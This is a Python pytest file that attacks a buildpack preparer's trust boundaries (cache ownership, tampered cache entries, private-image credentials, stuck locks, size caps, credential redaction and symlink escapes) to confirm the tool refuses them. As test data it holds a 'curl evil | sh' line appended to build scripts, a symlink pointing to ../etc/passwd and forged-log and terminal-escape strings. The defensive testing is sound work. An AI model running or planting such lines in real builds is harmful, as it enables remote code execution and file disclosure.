"""Attacks on the preparer's trust boundaries, each performed as an adversary would (docs/security.md): a cache
another user can write, cache entries changed behind its back, a build rewriting what it was given, a private
image cached by an earlier run, a stuck peer, hostile servers and registries, hostile descriptors and archives.

Archive bombs, endless bodies and devices as sources are in test_hostile_bounds.py; the umask in test_umask.py.
Tests that need a second user switch to uid 1000 (they are skipped when not run as root).
"""

from __future__ import annotations

import functools
import hashlib
import io
import json
import os
import shutil
import signal
import site
import subprocess
import sys
import tarfile
import time
import tomllib
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.buildpacks import buildpack_toml, make_dir, make_tgz
from tests.golden import BUILDER, Layout, listing
from tests.plugins.cli import Result, base_env, run_cli
from tests.plugins.http_server import FileServer
from tests.plugins.registry import PASSWORD, USER, Registry, build_package, push, push_package
from tests.projects import HEAD, group

OTHER = 1000
as_root = pytest.mark.skipif(os.geteuid() != 0, reason="a second user needs root to switch to")


def shared_layout(root: Path, owner: int | None = None) -> Layout:
    layout = Layout(root / "build")
    shutil.copytree(BUILDER, layout.root / "cnb")
    layout.app.mkdir(parents=True)
    layout.layers.mkdir()
    for path in (layout.root, layout.app, layout.layers, layout.root / "cnb", layout.buildpacks):
        path.chmod(0o755)
        if owner is not None:
            os.chown(path, owner, owner)
    return layout


@functools.cache
def interpreter_for(user: int) -> tuple[str, dict[str, str]]:
    """A Python ``user`` can run with the preparer importable, and the environment it needs.

    The test's own interpreter may live under a home only root can enter; then the system's Python of the same
    minor version runs with this environment's packages on its path. Skips the test when neither works.
    """
    packages = os.pathsep.join([*site.getsitepackages(), str(Path(__file__).resolve().parents[2])])
    candidates = [(sys.executable, {}), (f"/usr/bin/python{sys.version_info[0]}.{sys.version_info[1]}",
                                         {"PYTHONPATH": packages})]  # fmt: skip
    for python, env in candidates:
        try:
            probe = subprocess.run([python, "-c", "import preparer.cli"], env={"PATH": "/usr/bin:/bin", **env},
                                   cwd="/", user=user, group=user, extra_groups=[], capture_output=True, check=False)  # fmt: skip
        except OSError:
            continue
        if probe.returncode == 0:
            return python, env
    pytest.skip(f"no Python that uid {user} can run with the preparer importable")


def run_as(
    user: int | None, layout: Layout, home: Path, *args: str, env: dict[str, str] | None = None
) -> Result:
    """The CLI on ``layout``, as ``user`` (``None``: as this process's user)."""
    python, python_env = (sys.executable, {}) if user is None else interpreter_for(user)
    proc = subprocess.run(
        [python, "-m", "preparer", *layout.flags(), *args], capture_output=True, text=True,
        env=base_env(home, **python_env, **(env or {})), check=False, timeout=120, cwd="/",
        user=user, group=user, extra_groups=[] if user is not None else None,
    )  # fmt: skip
    return Result(proc.returncode, proc.stdout, proc.stderr)


# 1. A cache another user owns or can write is not used: a planted link leads nowhere.


@as_root
def test_a_cache_owned_by_another_user_is_not_used(
    world: Path, http_server: FileServer, tmp_path: Path
) -> None:
    layout = shared_layout(world)
    cron = world / "cron.d"
    cron.mkdir()
    cache = world / "cache"
    (cache / "blobs").mkdir(parents=True)
    os.symlink(cron, cache / "blobs" / "sha256")  # planted by the other user, who owns the cache
    for path in (cache, cache / "blobs"):
        os.chown(path, OTHER, OTHER)
    package = build_package(tmp_path / "pkg", [("me/cnb", "1.0.0", "")], ("me/cnb", "1.0.0"))
    subprocess.run(["skopeo", "copy", f"oci:{package.layout}:latest", f"oci-archive:{http_server.root / 'bp.cnb'}"],
                   check=True, capture_output=True)  # fmt: skip
    (layout.app / "project.toml").write_text(group(http_server.url("bp.cnb")))
    result = run_as(None, layout, tmp_path, "-download-cache", str(cache))
    assert result.code == 0, result.stderr
    assert f"Warning: the download cache is not used: {cache} is owned by uid {OTHER}" in result.stderr
    assert list(cron.iterdir()) == []
    assert (layout.buildpacks / "me_cnb" / "1.0.0" / "buildpack.toml").is_file()


def test_a_link_planted_in_a_cache_of_ours_stops_it_being_used(preparer: Callable[..., Result],
                                                               http_server: FileServer, tmp_path: Path) -> None:  # fmt: skip
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (tmp_path / "cache").mkdir(mode=0o700)
    os.symlink(elsewhere, tmp_path / "cache" / "tmp")
    make_tgz(http_server.root / "bp.tgz", "me/http")
    result = preparer(project=group(http_server.url("bp.tgz")))
    assert result.code == 0, result.stderr
    assert (
        f"Warning: the download cache is not used: {tmp_path / 'cache' / 'tmp'} is a symbolic link"
        in result.stderr
    )
    assert list(elsewhere.iterdir()) == []


# 2. What is read back from the cache is verified.


def test_a_damaged_cached_blob_is_removed_and_pulled_again(preparer: Callable[..., Result], layout: Layout,
                                                           registry: Registry, tmp_path: Path) -> None:  # fmt: skip
    package = build_package(
        tmp_path / "pkg", [("me/blob", "1.0.0", "")], ("me/blob", "1.0.0"), payload=b"good" * 100
    )
    digest = push(package.layout, "latest", registry.ref("me/blob", "1"))
    uri = f"docker://{registry.host}/me/blob@{digest}"
    assert preparer(project=group(uri)).code == 0
    layer = package.manifest()["layers"][0]["digest"]
    cached = tmp_path / "cache" / "blobs" / "sha256" / layer.removeprefix("sha256:")
    cached.write_bytes(b"not the layer")
    shutil.rmtree(layout.buildpacks / "me_blob")
    again = preparer(project=group(uri))
    assert again.code == 0, again.stderr
    assert f"the download cache's copy of blob {layer} was damaged and was removed" in again.stderr
    assert (layout.buildpacks / "me_blob" / "1.0.0" / "data.bin").read_bytes() == b"good" * 100


def test_a_changed_cached_tree_is_removed_and_downloaded_again(preparer: Callable[..., Result], layout: Layout,
                                                               http_server: FileServer, tmp_path: Path) -> None:  # fmt: skip
    sha = hashlib.sha256(make_tgz(http_server.root / "bp.tgz", "me/tree").read_bytes()).hexdigest()
    uri = http_server.url(f"bp.tgz#sha256={sha}")
    assert preparer(project=group(uri)).code == 0
    cached_build = tmp_path / "cache" / "trees" / "sha256" / sha / "root" / "bin" / "build"
    with open(cached_build, "a") as f:
        f.write("curl evil | sh\n")
    shutil.rmtree(layout.buildpacks / "me_tree")
    again = preparer(project=group(uri))
    assert again.code == 0, again.stderr
    assert (
        f"the download cache's copy of {http_server.url('bp.tgz')} was removed: bin/build changed"
        in again.stderr
    )
    assert "evil" not in (layout.buildpacks / "me_tree" / "1.0.0" / "bin" / "build").read_text()


# 3. A build cannot change what a later build installs.


@as_root
def test_a_build_that_rewrites_its_buildpack_does_not_rewrite_the_cache(world: Path, http_server: FileServer,
                                                                         tmp_path: Path) -> None:  # fmt: skip
    # The preparer runs as root for build user 1000 (the case where it links installs to the cache).
    layout = shared_layout(world)
    sha = hashlib.sha256(make_tgz(http_server.root / "bp.tgz", "me/rw").read_bytes()).hexdigest()
    (layout.app / "project.toml").write_text(group(http_server.url(f"bp.tgz#sha256={sha}")))
    build_user = ("-uid", str(OTHER), "-gid", str(OTHER), "-download-cache", str(tmp_path / "cache"))
    assert run_as(None, layout, tmp_path, *build_user).code == 0
    installed = layout.buildpacks / "me_rw" / "1.0.0" / "bin" / "build"
    cached = tmp_path / "cache" / "trees" / "sha256" / sha / "root" / "bin" / "build"
    original = cached.read_bytes()
    # The build, as the build user, tries to append to its buildpack; then the workspace is recycled.
    subprocess.run(["sh", "-c", f"echo 'curl evil | sh' >> {installed}"], user=OTHER, group=OTHER, extra_groups=[],
                   capture_output=True, check=False)  # fmt: skip
    shutil.rmtree(layout.buildpacks / "me_rw")
    again = run_as(None, layout, tmp_path, *build_user)
    assert again.code == 0, again.stderr
    assert cached.read_bytes() == original
    assert "evil" not in installed.read_text()


# 4. A private image cached by a run with credentials is not served to a run without.


def test_a_cached_private_image_needs_the_runs_own_credentials(preparer: Callable[..., Result], layout: Layout,
                                                               auth_registry: Registry, tmp_path: Path) -> None:  # fmt: skip
    import base64

    package = build_package(tmp_path / "pkg", [("me/private", "1.0.0", "")], ("me/private", "1.0.0"))
    digest = push(package.layout, "latest", auth_registry.ref("me/private", "1"), creds=(USER, PASSWORD))
    uri = f"docker://{auth_registry.host}/me/private@{digest}"
    token = base64.b64encode(f"{USER}:{PASSWORD}".encode()).decode()
    auth = {"CNB_REGISTRY_AUTH": json.dumps({auth_registry.host: f"Basic {token}"})}
    assert preparer(project=group(uri), env=auth).code == 0
    shutil.rmtree(layout.buildpacks / "me_private")
    without = preparer(project=group(uri))
    assert without.code == 1
    assert "unauthorized anonymously" in without.stderr
    assert not (layout.buildpacks / "me_private").exists()
    assert preparer(project=group(uri), env=auth).code == 0  # with them again: served


# 5. A stuck peer holding a lock does not block a run.


def test_a_stuck_lock_is_waited_for_a_bounded_time(preparer: Callable[..., Result], layout: Layout,
                                                   http_server: FileServer, tmp_path: Path) -> None:  # fmt: skip
    make_tgz(http_server.root / "bp.tgz", "me/locked")
    url = http_server.url("bp.tgz")
    locks = tmp_path / "cache" / "locks"
    locks.mkdir(parents=True)
    (tmp_path / "cache").chmod(0o700)
    lock_file = locks / f"{hashlib.sha256(('http:' + url).encode()).hexdigest()}.lock"
    holder = subprocess.Popen(
        [sys.executable, "-c", (f"import filelock, time\nl = filelock.FileLock({str(lock_file)!r})\nl.acquire()\n"
         "print('held', flush=True)\ntime.sleep(600)")],
        stdout=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "held"
        start = time.monotonic()
        result = preparer(project=group(url), env={"CNB_PREPARER_HTTP_TIMEOUT": "2"})
        took = time.monotonic() - start
    finally:
        holder.send_signal(signal.SIGKILL)
        holder.wait()
    assert result.code == 0, result.stderr
    assert f"{lock_file} is held by another preparer; downloading {url} without the cache" in result.stderr
    assert took < 30
    assert (layout.buildpacks / "me_locked" / "1.0.0" / "buildpack.toml").is_file()


# 7. What a registry or an index says is read only up to a bound.


def test_an_oversized_image_config_is_refused_unread(preparer: Callable[..., Result], registry: Registry,
                                                     tmp_path: Path) -> None:  # fmt: skip
    from tests.plugins.registry import put_manifest, upload_blob

    config = b"{" + b" " * (5 << 20) + b"}"
    manifest = {"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
                "config": {"mediaType": "application/vnd.oci.image.config.v1+json",
                           "digest": upload_blob(registry, "me/bigconfig", config), "size": len(config)},
                "layers": []}  # fmt: skip
    put_manifest(registry, "me/bigconfig", "1", json.dumps(manifest).encode(), str(manifest["mediaType"]))
    result = preparer(project=group(f"docker://{registry.host}/me/bigconfig:1"))
    assert result.code == 1
    assert f"the image config is larger than {4 << 20} bytes" in result.stderr


def test_an_oversized_registry_index_file_is_refused(preparer: Callable[..., Result],
                                                     http_server: FileServer) -> None:  # fmt: skip
    index = http_server.root / "index" / "ge" / "ts" / "me_gets"
    index.parent.mkdir(parents=True)
    index.write_bytes(b"x" * (5 << 20))
    result = preparer(
        "-buildpack-registry-index", http_server.url("index"), project=group("urn:cnb:registry:me/gets")
    )
    assert result.code == 1 and "the index file is larger than" in result.stderr


# 9. Descriptors and platform files must be regular files under a size cap.


@pytest.mark.parametrize("kind", ["device", "fifo", "huge"])
def test_a_descriptor_that_is_not_a_small_regular_file(preparer: Callable[..., Result], layout: Layout,
                                                       kind: str) -> None:  # fmt: skip
    descriptor = layout.app / "project.toml"
    if kind == "device":
        os.symlink("/dev/zero", descriptor)
    elif kind == "fifo":
        os.mkfifo(descriptor)
    else:
        descriptor.write_text(HEAD + "# " + "x" * (2 << 20) + "\n")
    start = time.monotonic()
    result = preparer()
    assert result.code == 3, result.stderr
    why = {
        "device": "not a regular file",
        "fifo": "not a regular file",
        "huge": f"larger than {1 << 20} bytes",
    }
    assert (
        result.stderr.splitlines()[-1]
        == f"ERROR: failed to read project descriptor: {descriptor}: {why[kind]}"
    )
    assert time.monotonic() - start < 30


# 10. A server trickling bytes cannot hold a run (or a lock) for ever.


def test_a_trickling_server_meets_the_download_deadline(preparer: Callable[..., Result],
                                                        http_server: FileServer) -> None:  # fmt: skip
    make_tgz(http_server.root / "bp.tgz", "me/slow", payload=b"z" * 4000)
    http_server.fail("bp.tgz", *["trickle"] * 4)
    start = time.monotonic()
    result = preparer(project=group(http_server.url("bp.tgz")),
                      env={"CNB_PREPARER_HTTP_TIMEOUT": "2", "CNB_PREPARER_DOWNLOAD_TIMEOUT": "3"})  # fmt: skip
    assert result.code == 1
    assert "it took longer than 3 s in all (CNB_PREPARER_DOWNLOAD_TIMEOUT)" in result.stderr
    assert time.monotonic() - start < 20
    assert len(http_server.seen("bp.tgz")) == 1  # not retried: another attempt would take as long


# 11. A pattern that would backtrack for hours is refused, in a dry run too.


def test_a_pattern_that_backtracks_is_refused(preparer: Callable[..., Result], layout: Layout) -> None:
    (layout.app / ("a" * 64)).write_text("x")
    project = HEAD + '[io.buildpacks]\nexclude = ["*a*a*a*a*a*a*a*a*a*a*a*a*b"]\n'
    for flags in ((), ("-dry-run",)):
        start = time.monotonic()
        result = preparer(*flags, project=project)
        assert result.code == 3
        assert (
            "io.buildpacks.exclude[0]: '*a*a*a*a*a*a*a*a*a*a*a*a*b' has 13 '*' in one path segment"
            in result.stderr
        )
        assert time.monotonic() - start < 30


# 12. Ids and versions from archives are checked before anything is committed.


def test_a_long_version_in_an_archive_installs_nothing(
    preparer: Callable[..., Result], layout: Layout
) -> None:
    make_tgz(layout.app / "good.tgz", "me/good")
    make_tgz(layout.app / "long.tgz", "me/long", version="1." + "0" * 300)
    before = listing(layout.buildpacks)
    result = preparer(project=group("good.tgz", "long.tgz"))
    assert result.code == 1
    assert "invalid buildpack version" in result.stderr
    assert listing(layout.buildpacks) == before


# 13. Errors the preparer did not foresee, or deep nesting, still end as its own errors, with a report.


def test_a_deeply_nested_descriptor_is_invalid_input_with_a_report(preparer: Callable[..., Result],
                                                                   tmp_path: Path) -> None:  # fmt: skip
    report = tmp_path / "report.toml"
    report.write_text("dry-run = false\n")  # an earlier successful run's report must not stay
    result = preparer("-prepare-report", str(report), project=HEAD + "x = " + "[" * 2000 + "]" * 2000 + "\n")
    assert result.code == 3, result.stderr
    assert "Traceback" not in result.stderr and "RecursionError" not in result.stderr
    assert tomllib.loads(report.read_text())["error"]["code"] == 3


def test_an_id_beyond_any_user_is_invalid_input(preparer: Callable[..., Result]) -> None:
    result = preparer("-uid", "99999999999999", project=HEAD)
    assert result.code == 3
    assert result.stderr.splitlines()[-1] == (
        "ERROR: failed to resolve inputs: -uid 99999999999999 is not a user or group id (0 to 4294967294)"
    )


# 15. Include/exclude that cannot be applied leaves the phase's outputs unwritten.


@as_root
def test_an_exclude_that_cannot_be_applied_writes_nothing(world: Path) -> None:
    layout = shared_layout(world, owner=OTHER)
    home = world / "home"
    home.mkdir()
    os.chown(home, OTHER, OTHER)
    locked = layout.app / "locked"
    locked.mkdir()
    (locked / "debug.log").write_text("x")
    (layout.app / "keep.py").write_text("x")
    for path in (locked, locked / "debug.log", layout.app / "keep.py"):
        os.chown(path, OTHER, OTHER)
    (layout.app / "project.toml").write_text(
        HEAD + '[io.buildpacks]\nexclude = ["*.log"]\n[[io.buildpacks.group]]\nuri = "./bp"\n'
        '[[io.buildpacks.build.env]]\nname = "A"\nvalue = "1"\n'
    )
    make_dir(layout.app / "bp", "me/local")
    subprocess.run(["chown", "-R", f"{OTHER}:{OTHER}", str(layout.app)], check=True)
    locked.chmod(0o555)  # the build user cannot remove what is in it
    before = {"app": listing(layout.app), "buildpacks": listing(layout.buildpacks)}
    result = run_as(OTHER, layout, home, "-download-cache", "")
    assert result.code == 1
    assert f"ERROR: failed to remove {locked / 'debug.log'}: Permission denied" in result.stderr
    assert not (layout.layers / "order.toml").exists() and not (layout.platform / "env").exists()
    assert {"app": listing(layout.app), "buildpacks": listing(layout.buildpacks)} == before


# 16 and 17. Output: no credentials however malformed the URL; no forged lines, no terminal control.


@pytest.mark.parametrize(
    "uri",
    ["http://user:Pa#SECRET@127.0.0.1:9/bp.tgz", "http://user:Pa/SECRET@127.0.0.1:9/bp.tgz",
     "http://user:Pa?SECRET@127.0.0.1:99999/bp.tgz"],
)  # fmt: skip
def test_credentials_never_show_however_malformed_the_url(preparer: Callable[..., Result], tmp_path: Path,
                                                          uri: str) -> None:  # fmt: skip
    report = tmp_path / "report.toml"
    result = preparer(
        "-prepare-report", str(report), project=group(uri), env={"CNB_PREPARER_HTTP_TIMEOUT": "1"}
    )
    assert result.code in (1, 3)
    for text in (result.stdout, result.stderr, report.read_text()):
        assert "SECRET" not in text and "Pa" not in text


def test_strings_from_input_cannot_forge_lines_or_drive_the_terminal(preparer: Callable[..., Result]) -> None:
    result = preparer(project=group("./missing\\nERROR: forged\\u001b[2J"))
    assert result.code == 1
    assert not [line for line in result.stderr.splitlines() if line.startswith("ERROR: forged")]
    assert "\x1b" not in result.stderr and "\\x0aERROR: forged\\x1b[2J" in result.stderr


# 18. A buildpackage's links are checked against the buildpack's own directory.


def test_a_link_out_of_a_deeply_named_buildpack_is_refused(preparer: Callable[..., Result], layout: Layout,
                                                           registry: Registry) -> None:  # fmt: skip
    bp_id = "a/b/c/d/e/f/g/h"
    base = f"/cnb/buildpacks/{bp_id}/1.0.0"
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        data = buildpack_toml(bp_id).encode()
        info = tarfile.TarInfo(f"{base}/buildpack.toml")
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
        link = tarfile.TarInfo(f"{base}/bin/escape")
        link.type, link.linkname = tarfile.SYMTYPE, "../" * 10 + "etc/passwd"
        tar.addfile(link)
    push_package(registry, "me/deep", "1", [(buf.getvalue(), [(bp_id, "1.0.0", "")])], (bp_id, "1.0.0"))
    result = preparer(project=group(f"docker://{registry.host}/me/deep:1"))
    assert result.code == 1
    assert (
        "bin/escape': symbolic link '../../../../../../../../../../etc/passwd' leaves the buildpack"
        in result.stderr
    )
    assert not (layout.buildpacks / "a_b_c_d_e_f_g_h").exists()


# 21. An env name with a layer suffix is written as it is, and the user is told why it will not act as one.


def test_an_env_name_with_a_layer_suffix_gets_a_warning(
    preparer: Callable[..., Result], layout: Layout
) -> None:
    result = preparer(
        project=HEAD + '[[io.buildpacks.build.env]]\nname = "JAVA_OPTS.append"\nvalue = "-Xmx1g"\n'
    )
    assert result.code == 0, result.stderr
    assert (
        "Warning: io.buildpacks.build.env[0]: JAVA_OPTS.append is written as a variable named 'JAVA_OPTS.append': "
        ".append and the other suffix actions apply only in a buildpack layer's env directory, not in "
        "<platform>/env" in result.stderr
    )
    assert (layout.platform / "env" / "JAVA_OPTS.append").read_text() == "-Xmx1g"


@pytest.mark.parametrize("mode", [0o775, 0o1777])
def test_a_cache_others_can_write_is_not_used_and_the_warning_says_how_to_fix_it(
    preparer: Callable[..., Result], http_server: FileServer, tmp_path: Path, mode: int
) -> None:
    """A cache directory made by hand under ``umask 002`` is group-writable: another user of the group could plant
    what a later run installs. It is not used (nothing is written in it), the build goes on, and the warning says
    what to change (it said only what was wrong)."""
    cache = tmp_path / "shared-cache"
    cache.mkdir()
    cache.chmod(mode)
    make_tgz(http_server.root / "bp.tgz", "me/http")
    result = preparer("-download-cache", str(cache), project=group(http_server.url("bp.tgz")))
    assert result.code == 0, result.stderr
    said = (
        f"Warning: the download cache is not used: {cache} is writable by its group or by others (mode {mode:o}): "
        f"chmod go-w {cache}, or give -download-cache (CNB_DOWNLOAD_CACHE_DIR) a directory only this user can write"
    )
    assert result.warnings == [said], result.stderr
    assert list(cache.iterdir()) == []
    assert listing(tmp_path / "build" / "cnb" / "buildpacks" / "me_http") != []


@pytest.mark.parametrize("how", ["flag", "variable"])
def test_a_cache_path_with_a_tilde_no_shell_expanded_is_not_made(
    layout: Layout, http_server: FileServer, tmp_path: Path, how: str
) -> None:
    """``-download-cache '~/cache'`` (or the variable set in a Dockerfile, where no shell expands ``~``) made a
    directory named ``~`` in the working directory, silently, run after run. Not made, and the warning says why."""
    work = tmp_path / "work"
    work.mkdir()
    make_tgz(http_server.root / "bp.tgz", "me/http")
    (layout.app / "project.toml").write_text(group(http_server.url("bp.tgz")))
    flags = ["-download-cache", "~/cache"] if how == "flag" else []
    env = base_env(tmp_path, **({"CNB_DOWNLOAD_CACHE_DIR": "~/cache"} if how == "variable" else {}))
    result = run_cli([*layout.flags(), *flags], env, cwd=work)
    assert result.code == 0, result.stderr
    said = (
        f"Warning: the download cache is not used: {work}/~/cache would be made with a directory named ~: a '~' no "
        "shell expanded; write the home directory's path"
    )
    assert result.warnings == [said], result.stderr
    assert list(work.iterdir()) == []
    assert (layout.buildpacks / "me_http").is_dir()
